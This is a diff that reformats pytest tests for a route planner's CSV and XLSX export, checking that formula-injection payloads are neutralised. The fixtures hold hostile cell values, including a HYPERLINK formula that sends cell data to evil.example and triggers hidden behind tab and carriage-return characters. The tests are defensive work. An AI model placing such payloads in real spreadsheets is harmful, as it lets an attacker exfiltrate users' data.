@@ -58,9 +58,11 @@ def _is_number(text: str) -> bool:
 @pytest.fixture(scope="module")
 def written(tmp_path_factory: pytest.TempPathFactory) -> Path:
     folder = tmp_path_factory.mktemp("formula")
-    teams, residents = write_lists(folder, teams_rows(FORMULA_TEAMS, name="-Trạm"),
-                                   residents_rows(FORMULA_PLANNED, FORMULA_NOT_DUE,
-                                                  FORMULA_BAD_ROW))
+    teams, residents = write_lists(
+        folder,
+        teams_rows(FORMULA_TEAMS, name="-Trạm"),
+        residents_rows(FORMULA_PLANNED, FORMULA_NOT_DUE, FORMULA_BAD_ROW),
+    )
     settings = Settings().with_solver(time_limit_s=2)
     inputs = read_inputs(residents, teams, START, settings)
     run = plan_from_inputs(inputs, START, 1, settings)
@@ -96,11 +98,33 @@ def test_unassigned_and_problems_csv_neutralise_ids_wards_addresses(written: Pat
 
 def test_tab_and_carriage_return_cells_in_a_route_sheet(tmp_path: Path) -> None:
     """The readers strip leading blanks; a Resident made elsewhere may still carry them."""
-    people = {"A": resident("A", (22.0, 105.0), address="\t=1+1", phone="\r=2+2",
-                            ward="x", full_name="An")}
-    route = PlanRoute("T1", "2026-11-23", "2026-11-23T07:30:00", "2026-11-23T09:00:00", 0, 0, (
-        PlanStop(1, ("A",), 22.0, 105.0, "2026-11-23T08:00:00", "2026-11-23T08:00:00",
-                 "2026-11-23T08:10:00", 1, ward="\t@w", household_id="\r-h"),))
+    people = {
+        "A": resident(
+            "A", (22.0, 105.0), address="\t=1+1", phone="\r=2+2", ward="x", full_name="An"
+        )
+    }
+    route = PlanRoute(
+        "T1",
+        "2026-11-23",
+        "2026-11-23T07:30:00",
+        "2026-11-23T09:00:00",
+        0,
+        0,
+        (
+            PlanStop(
+                1,
+                ("A",),
+                22.0,
+                105.0,
+                "2026-11-23T08:00:00",
+                "2026-11-23T08:00:00",
+                "2026-11-23T08:10:00",
+                1,
+                ward="\t@w",
+                household_id="\r-h",
+            ),
+        ),
+    )
     path = tmp_path / "sheet.csv"
     write_route_sheet_csv(route, people, path)
     with path.open(encoding="utf-8-sig", newline="") as fh:
@@ -114,17 +138,47 @@ def _xlsx_cells(data: bytes) -> list[openpyxl.cell.cell.Cell]:
     return [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
 
 
-@pytest.mark.parametrize("text", ["=1+1", "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1",
-                                  '=HYPERLINK("http://evil.example","x")', "-", "=", "-0912"])
+@pytest.mark.parametrize(
+    "text",
+    [
+        "=1+1",
+        "+1",
+        "-1+2",
+        "@SUM(A1)",
+        "\t=1",
+        "\r=1",
+        '=HYPERLINK("http://evil.example","x")',
+        "-",
+        "=",
+        "-0912",
+    ],
+)
 def test_a_text_cell_starting_with_a_trigger_gets_a_quote(text: str) -> None:
     from planner.cells import neutralise
 
     assert neutralise(text) == "'" + text
 
 
-@pytest.mark.parametrize("value", [-5, -2.5, 0, 3, 1e-9, float("-inf"), True, None, "",
-                                   "Tổ 7", "0912 000 001", "'=already quoted", " =1+1",
-                                   "a=1", "x-y"])
+@pytest.mark.parametrize(
+    "value",
+    [
+        -5,
+        -2.5,
+        0,
+        3,
+        1e-9,
+        float("-inf"),
+        True,
+        None,
+        "",
+        "Tổ 7",
+        "0912 000 001",
+        "'=already quoted",
+        " =1+1",
+        "a=1",
+        "x-y",
+    ],
+)
 def test_numbers_and_harmless_text_are_left_alone(value: object) -> None:
     from planner.cells import neutralise
 
@@ -134,15 +188,27 @@ def test_numbers_and_harmless_text_are_left_alone(value: object) -> None:
 def test_xlsx_cells_are_strings_or_numbers_never_formulas() -> None:
     from planner.cells import xlsx_bytes
 
-    hostile = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "=1+1", "+1", "@A1",
-               "-1+1", "\t=1", "\r=1", "=", "plain", "bad\x01char"]
-    data = xlsx_bytes({"plan": (["text", "count", "delta"],
-                                [[h, k, -k - 0.5] for k, h in enumerate(hostile)])})
+    hostile = [
+        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+        "=1+1",
+        "+1",
+        "@A1",
+        "-1+1",
+        "\t=1",
+        "\r=1",
+        "=",
+        "plain",
+        "bad\x01char",
+    ]
+    data = xlsx_bytes(
+        {"plan": (["text", "count", "delta"], [[h, k, -k - 0.5] for k, h in enumerate(hostile)])}
+    )
     cells = _xlsx_cells(data)
     assert len(cells) == 3 * (len(hostile) + 1)
     assert [c for c in cells if c.data_type == "f"] == []
-    assert [c.value for c in cells if isinstance(c.value, str) and c.value.startswith(TRIGGERS)
-            ] == []
+    assert [
+        c.value for c in cells if isinstance(c.value, str) and c.value.startswith(TRIGGERS)
+    ] == []
     texts = [c.value for c in cells if c.column == 1][1:]
     # XML reads a stored CR back as LF (end-of-line normalisation): still quoted
     assert texts[:8] == ["'" + h.replace("\r", "\n") for h in hostile[:8]]
